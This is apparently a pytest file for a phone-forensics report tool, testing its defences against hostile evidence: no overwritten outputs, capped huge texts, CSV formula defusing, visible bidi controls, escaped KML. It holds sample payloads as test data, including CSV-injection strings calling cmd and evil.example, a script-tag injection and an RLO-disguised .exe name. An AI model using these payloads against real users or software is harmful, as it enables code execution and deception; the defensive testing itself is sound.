"""The report step against hostile or careless evidence (issue 13): nothing replaced, huge texts capped,
formulas defused in CSV, hidden controls shown, KML text escaped, an unread phone never green."""

from __future__ import annotations

import csv
import json
import resource
import shutil
import subprocess
import sys
import xml.etree.ElementTree as ET
import zipfile
from itertools import pairwise
from pathlib import Path

import pytest

from rules.assessment import NOT_EXAMINED, Coverage, assessment
from tests.bundle_layout import payload
from tests.offline_browser import CHROMIUM, offline_page
from tests.report_demo import Text, listing, section
from tests.report_store import ReportStore
from triage.integrity.exclusive import ExistingFileError
from triage.report.display import DISPLAY_LIMITS, display_text, marker, visible_controls
from triage.report.pdf import pdf_unavailable
from triage.report.tables import defuse

ROOT = Path(__file__).parents[2]
PDF = pdf_unavailable() is None and shutil.which("pdftotext") is not None
needs_pdf = pytest.mark.skipif(
    not PDF, reason="report.pdf not written here (WeasyPrint) or pdftotext missing (apt-get install poppler-utils)"
)
RLO_NAME = "/sdcard/DCIM/invoice\u202egpj.exe"  # shows as "invoiceexe.jpg" when the override acts
MEDIA_SHA = "0123456789abcdef" * 4


def pdftotext(pdf: Path) -> str:
    text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], check=True, capture_output=True, text=True).stdout
    return " ".join(text.split())


def read_jsonl(path: Path) -> list[dict]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def read_csv(path: Path) -> list[dict]:
    limit = csv.field_size_limit(1 << 30)  # the huge-text case has a 1 MiB cell
    try:
        with open(path, encoding="utf-8-sig", newline="") as f:
            return list(csv.DictReader(f))
    finally:
        csv.field_size_limit(limit)


# -- 1. every output created exclusively ------------------------------------------------------------


@pytest.mark.parametrize(
    "planted",
    [
        "records/message.jsonl",
        "findings.json",
        "index.html",
        "pages/people-1.html",
        "records/contact.csv",
        "schedule_findings.csv",
        "locations.kml",
        "locations.geojson",
        "case.jsonld",
    ],
)
def test_no_report_file_replaces_an_existing_one(tmp_path: Path, planted: str) -> None:
    rs = ReportStore(tmp_path / "out")
    src = rs.source("/data/mmssms.db")
    rs.message(src, "hello")
    target = rs.out / planted
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_bytes(b"planted before the report")
    with pytest.raises(ExistingFileError, match="already exists"):
        rs.write(files_selected=1)
    assert target.read_bytes() == b"planted before the report"


@needs_pdf
def test_report_pdf_never_replaces_an_existing_one(tmp_path: Path) -> None:
    rs = ReportStore(tmp_path / "out")
    rs.message(rs.source("/data/mmssms.db"), "hello")
    (rs.out / "report.pdf").write_bytes(b"not ours")
    with pytest.raises(ExistingFileError):
        rs.write(files_selected=1)
    assert (rs.out / "report.pdf").read_bytes() == b"not ours"  # neither replaced nor removed


def test_a_planted_link_is_not_followed(tmp_path: Path) -> None:
    outside = tmp_path / "evidence.bin"
    outside.write_bytes(b"evidence")
    rs = ReportStore(tmp_path / "out")
    rs.message(rs.source("/data/mmssms.db"), "hello")
    (rs.out / "case.jsonld").symlink_to(outside)
    with pytest.raises(ExistingFileError):
        rs.write(files_selected=1)
    assert outside.read_bytes() == b"evidence"


# -- 2. display caps ----------------------------------------------------------------------------------

HEAVY_BODY = "0123456789abcdef" * 65536  # 1 MiB, no space
HEAVY_NAME_CHARS = 50 * 1024 * 1024


def heavy_case(out: str) -> None:
    """Run in a subprocess by the test below: a 1 MiB spaceless SMS and a 50 MiB contact name."""
    rs = ReportStore(Path(out))
    src = rs.source("/data/data/com.android.providers.telephony/databases/mmssms.db", records=2)
    rs.cite(rs.message(src, HEAVY_BODY), src)
    rs.contact(src, "N" * HEAVY_NAME_CHARS, ["+447700900123"])
    rs.write(files_selected=1)


def _limit_memory() -> None:  # in the child: a regression fails with MemoryError instead of eating the machine
    resource.setrlimit(resource.RLIMIT_AS, (4 << 30, 4 << 30))


def test_huge_texts_are_cut_for_display_and_kept_whole_in_the_records(tmp_path: Path) -> None:
    out = tmp_path / "out"
    code = "import sys; from tests.report.test_report_hardening import heavy_case; heavy_case(sys.argv[1])"
    result = subprocess.run(
        [sys.executable, "-c", code, str(out)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=300,
        preexec_fn=_limit_memory,
    )
    assert result.returncode == 0, result.stderr[-3000:]

    body_cut = (
        f"[cut: {len(HEAVY_BODY) - DISPLAY_LIMITS['message_body']:,} more characters; the full text is in "
        "records/message.jsonl]"
    )
    name_cut = (
        f"[cut: {HEAVY_NAME_CHARS - DISPLAY_LIMITS['name']:,} more characters; the full text is in "
        "records/contact.jsonl]"
    )
    page = (out / "index.html").read_text(encoding="utf-8")
    assert len(page) < 1_000_000  # the page is sized by the limits, not by the phone
    conversations = Text(listing(out, "conversation-1")).text
    assert HEAVY_BODY[: DISPLAY_LIMITS["message_body"]] + " … " + body_cut in conversations
    people = Text(listing(out, "people", "contacts")).text
    assert "N" * DISPLAY_LIMITS["name"] + " … " + name_cut in people
    for path in [out / "index.html", *(out / "pages").iterdir()]:  # every page is sized by the limits
        text = path.read_text(encoding="utf-8")
        assert len(text) < 1_000_000 and "N" * (DISPLAY_LIMITS["name"] + 1) not in text, path.name

    (message,) = read_jsonl(out / "records" / "message.jsonl")
    assert message["body"] == HEAVY_BODY
    (contact,) = read_jsonl(out / "records" / "contact.jsonl")
    assert len(contact["name"]) == HEAVY_NAME_CHARS and set(contact["name"]) == {"N"}
    (row,) = read_csv(out / "records" / "message.csv")
    assert row["body"] == HEAVY_BODY
    custody = read_jsonl(out / "custody.jsonl")
    assert custody[-1]["action"] == "report written"
    assert custody[-1]["details"]["display_limits"] == dict(DISPLAY_LIMITS)

    if PDF:
        text = pdftotext(out / "report.pdf")
        assert f"cut: {len(HEAVY_BODY) - DISPLAY_LIMITS['message_body']:,} more characters" in text
        # the statement lists what the findings cite: the contact is not cited, its name is on the pages only
        assert "N" * (DISPLAY_LIMITS["name"] + 1) not in text


def test_display_text_cuts_with_a_marker_and_counts_stored_characters() -> None:
    assert display_text("short", "name") == "short"
    cut = display_text("\u202e" + "x" * 300, "name", "records/contact.jsonl")
    assert cut == "⟦RLO⟧" + "x" * 199 + " … [cut: 101 more characters; the full text is in records/contact.jsonl]"
    # a letter is not parted from its accents: the cut falls before it
    accented = "a" * 199 + "e\u0301\u0301" + "b" * 10
    assert display_text(accented, "name").startswith("a" * 199 + " … [cut: 13 more")
    with pytest.raises(ValueError, match="unknown display kind"):
        display_text("x", "nonsense")


# -- 3. CSV formula defusing ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1,1)", "'@SUM(1,1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("+44 7700 900123x", "'+44 7700 900123x"),
        ("+", "'+"),
        ("+447700900123", "+447700900123"),
        ("+44 (0) 7700 900-123", "+44 (0) 7700 900-123"),
        ("-12.5", "-12.5"),
        ("hello =1+1", "hello =1+1"),
        ("", ""),
    ],
)
def test_defuse(cell: str, written: str) -> None:
    assert defuse(cell) == written


def test_csv_exports_defuse_formulas_and_jsonl_keeps_raw_values(tmp_path: Path) -> None:
    rs = ReportStore(tmp_path / "out")
    src = rs.source("/data/mmssms.db", records=4)
    bodies = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "-12.5", "ok"]
    for row, body in enumerate(bodies, start=1):
        rs.message(src, body, counterpart="+447700900123", row=row)
    rs.write(files_selected=1)

    rows = read_csv(rs.out / "records" / "message.csv")
    assert [r["body"] for r in rows] == ["'" + bodies[0], "'" + bodies[1], "-12.5", "ok"]
    assert {r["counterpart"] for r in rows} == {"+447700900123"}  # a phone number stays readable
    assert [m["body"] for m in read_jsonl(rs.out / "records" / "message.jsonl")] == bodies


# -- 4. hidden controls made visible, identifiers isolated ----------------------------------------------


def test_markers_name_every_hidden_control() -> None:
    assert visible_controls("a\u202eb\u2066c\u200fd\u061ce\x00f\x1bg\x7fh\u0085i\udcff") == (
        "a⟦RLO⟧b⟦LRI⟧c⟦RLM⟧d⟦ALM⟧e⟦NUL⟧f⟦ESC⟧g⟦DEL⟧h⟦U+0085⟧i⟦byte 0xFF⟧"
    )
    assert visible_controls("line\nbreak\ttab") == "line\nbreak\ttab"  # layout the reader expects
    assert marker("\u202a") == "⟦LRE⟧"


def controls_store(out: Path) -> ReportStore:
    """A phone whose names and texts hide bidi controls and NULs."""
    rs = ReportStore(out, evidence_source="/evidence/exhibit\u202egpj.zip")
    src = rs.source("/data/data/com.whatsapp/databases/msg\u202estore.db")
    rs.cite(rs.message(src, "pay \u202e0021\u202c now\x00 and \u2067this\u2069"), src)
    rs.cite(rs.media(src, RLO_NAME, MEDIA_SHA), src)
    return rs


@pytest.fixture(scope="module")
def controls_report(tmp_path_factory) -> Path:
    rs = controls_store(tmp_path_factory.mktemp("controls") / "out")
    rs.write(files_selected=1, evidence_files={"/evidence/exhibit\u202egpj.zip": MEDIA_SHA})
    return rs.out


def test_html_shows_controls_as_markers(controls_report: Path) -> None:
    page = (controls_report / "index.html").read_text(encoding="utf-8")
    for char in ("\u202e", "\u202c", "\u2067", "\u2069", "\x00"):
        assert char not in page
    text = Text(page).text
    assert "invoice⟦RLO⟧gpj.exe" in text and "exhibit⟦RLO⟧gpj.zip" in text and "msg⟦RLO⟧store.db" in text
    assert "pay ⟦RLO⟧0021⟦PDF⟧ now⟦NUL⟧ and ⟦RLI⟧this⟦PDI⟧" in text
    # the hash beside a name sits in its own left-to-right span
    assert f'<bdi>/evidence/exhibit⟦RLO⟧gpj.zip</bdi>: <span class="ltr" dir="ltr">{MEDIA_SHA}</span>' in page
    # the raw values stay in the exports
    assert read_jsonl(controls_report / "records" / "media_file.jsonl")[0]["path"] == RLO_NAME


@needs_pdf
def test_pdf_shows_controls_as_markers(controls_report: Path) -> None:
    text = pdftotext(controls_report / "report.pdf")
    assert "\u202e" not in text and "\x00" not in text
    assert "invoice⟦RLO⟧gpj.exe" in text and "exhibit⟦RLO⟧gpj.zip" in text
    assert "now⟦NUL⟧" in text and "⟦RLI⟧this⟦PDI⟧" in text
    assert MEDIA_SHA in text  # in logical order, not reversed


# Where each character of `needle` is drawn, for every text node that holds it and is on screen:
# [[left, top], …] in the order the characters are stored.
CHAR_BOXES = """needle => {
  const found = [];
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  for (let node = walker.nextNode(); node; node = walker.nextNode()) {
    const at = node.data.indexOf(needle);
    if (at < 0 || !node.parentElement.getClientRects().length) continue;
    const boxes = [];
    for (let i = 0; i < needle.length; i++) {
      const range = document.createRange();
      range.setStart(node, at + i);
      range.setEnd(node, at + i + 1);
      const r = range.getBoundingClientRect();
      boxes.push([r.left, r.top]);
    }
    found.push({boxes: boxes, text: node.parentElement.closest("td, div, li, p").innerText});
  }
  return found;
}"""


def reads_left_to_right(boxes: list[list[float]]) -> bool:
    """Each character right of the one before on its line, or on a later line (a long hash may wrap)."""
    return all(b[1] > a[1] + 1 or (abs(b[1] - a[1]) <= 1 and b[0] > a[0]) for a, b in pairwise(boxes))


@pytest.mark.skipif(not CHROMIUM.exists(), reason="Debian chromium not installed: apt-get install chromium")
def test_a_right_to_left_override_in_a_name_cannot_reverse_the_hash_beside_it(
    controls_report: Path, tmp_path: Path
) -> None:
    pytest.importorskip("playwright.sync_api", reason="python package playwright not installed")
    with offline_page(tmp_path / "profile") as (page, _requests, _errors):
        page.goto((controls_report / "index.html").as_uri(), wait_until="load")
        page.evaluate("() => document.querySelectorAll('details').forEach(d => d.open = true)")
        seen = page.evaluate(CHAR_BOXES, MEDIA_SHA)
        names = page.evaluate("() => document.body.innerText")
    # the hash is shown beside the exhibit's name (evidence table), the photo's path and the card's source
    assert len(seen) >= 3
    for place in seen:
        assert reads_left_to_right(place["boxes"]), place["text"]
        assert MEDIA_SHA in place["text"]
    beside_name = [p for p in seen if "exhibit⟦RLO⟧gpj.zip" in p["text"]]
    assert beside_name, [p["text"] for p in seen]
    assert "invoice⟦RLO⟧gpj.exe" in names and "\u202e" not in names


# -- 5. KML and GeoJSON text ---------------------------------------------------------------------------


def test_kml_description_and_name_never_become_markup(tmp_path: Path) -> None:
    rs = ReportStore(tmp_path / "out")
    src = rs.source('/sdcard/<a href="http://evil.example">x</a>.jpg')
    label = '<script>alert(1)</script><a href="http://evil.example">pin</a> & more'
    rs.location(src, label)
    rs.write(files_selected=1)

    ns = {"k": "http://www.opengis.net/kml/2.2"}
    (mark,) = ET.parse(rs.out / "locations.kml").getroot().findall(".//k:Placemark", ns)
    name = mark.find("k:name", ns).text
    description = mark.find("k:description", ns).text
    # what the XML parser hands to an HTML renderer (Google Earth's balloon) is escaped HTML: text, no tags
    assert name == (
        "&lt;script&gt;alert(1)&lt;/script&gt;&lt;a href=&quot;http://evil.example&quot;&gt;pin&lt;/a&gt; &amp; more"
    )
    assert "<" not in name and "<" not in description
    assert "&lt;a href=&quot;http://evil.example&quot;&gt;x&lt;/a&gt;.jpg" in description
    assert "CDATA" not in (rs.out / "locations.kml").read_text(encoding="utf-8")

    geo_text = (rs.out / "locations.geojson").read_text(encoding="utf-8")
    assert "<script" not in geo_text and "<a " not in geo_text
    (feature,) = json.loads(geo_text)["features"]
    assert feature["properties"]["label"] == label  # data: the value as read


# -- 6. nothing examined is never green ------------------------------------------------------------------


def test_assessment_levels_from_coverage() -> None:
    unread = Coverage(selected=3, sources=1, parsed=0, records=0, warnings=3)
    result = assessment([], unread)
    assert result["level"] == NOT_EXAMINED == "not examined"
    assert result["not_examined"] == (
        "no file in the evidence could be parsed (3 file(s) selected for parsing, "
        "1 opened by a parser, 0 parsed, 3 warning(s)); see 'Parse warnings and what "
        "was not parsed'"
    )
    nothing = assessment([], Coverage(selected=0, sources=0, parsed=0, records=0, warnings=0))
    assert (
        nothing["level"] == NOT_EXAMINED
        and "no file in the evidence was recognised by a parser" in nothing["not_examined"]
    )
    empty_databases = assessment([], Coverage(selected=2, sources=2, parsed=2, records=0, warnings=0))
    assert empty_databases["level"] == "green" and empty_databases["not_examined"] == ""
    assert assessment([])["level"] == "green"  # rule tests without a run: scored on findings alone


def test_a_phone_with_no_file_parsed_is_not_examined(tmp_path: Path) -> None:
    rs = ReportStore(tmp_path / "out")
    rs.source("/data/data/com.android.providers.telephony/databases/mmssms.db", status="not parsed", records=0)
    rs.write(files_selected=4)

    found = json.loads((rs.out / "findings.json").read_text(encoding="utf-8"))["assessment"]
    assert found["level"] == "not examined"
    reason = (
        "no file in the evidence could be parsed (4 file(s) selected for parsing, 1 opened by a parser, "
        "0 parsed, 0 warning(s))"
    )
    assert found["not_examined"].startswith(reason)
    assert found["coverage"] == {"files_selected": 4, "files_opened": 1, "files_parsed": 0, "records": 0, "warnings": 0}
    page = (rs.out / "index.html").read_text(encoding="utf-8")
    assert '<span class="rag not-examined">NOT EXAMINED</span>' in page
    assert reason in Text(section(page, "assessment")).text
    assert '"green"' not in page and 'class="rag green"' not in page
    if PDF:
        text = pdftotext(rs.out / "report.pdf")
        assert f"NOT EXAMINED: {reason}" in text and "GREEN" not in text


def test_a_phone_with_empty_databases_is_green(tmp_path: Path) -> None:
    rs = ReportStore(tmp_path / "out")
    rs.source("/data/data/com.android.providers.telephony/databases/mmssms.db", status="parsed", records=0)
    rs.write(files_selected=1)
    found = json.loads((rs.out / "findings.json").read_text(encoding="utf-8"))["assessment"]
    assert found["level"] == "green" and found["coverage"]["files_parsed"] == 1


def test_a_run_that_read_nothing_is_not_green(tmp_path: Path) -> None:
    from triage.cli import main

    evidence = tmp_path / "not-a-phone.zip"
    with zipfile.ZipFile(evidence, "w") as z:
        z.writestr("notes/readme.txt", "nothing a parser reads")
        z.writestr("photos/", "")
    out = tmp_path / "out"
    assert (
        main(["run", str(evidence), "--out", str(out), "--quiet", "--case", "C", "--exhibit", "E", "--examiner", "X"])
        == 0
    )
    found = json.loads((payload(out) / "findings.json").read_text(encoding="utf-8"))["assessment"]
    assert found["level"] == "not examined"
    assert found["not_examined"].startswith("no file in the evidence was recognised by a parser (0 files selected")
    assert "NOT EXAMINED" in (payload(out) / "index.html").read_text(encoding="utf-8")
